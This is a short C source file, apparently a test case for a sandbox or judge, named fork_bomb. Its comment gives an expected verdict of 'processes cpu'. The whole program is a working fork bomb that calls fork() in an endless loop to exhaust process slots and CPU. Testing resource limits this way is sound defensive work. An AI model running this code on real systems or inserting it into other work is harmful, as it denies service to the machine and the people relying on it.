/*
 * fork_bomb - forks for ever, in every process.
 *
 * Verdict: processes cpu
 */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
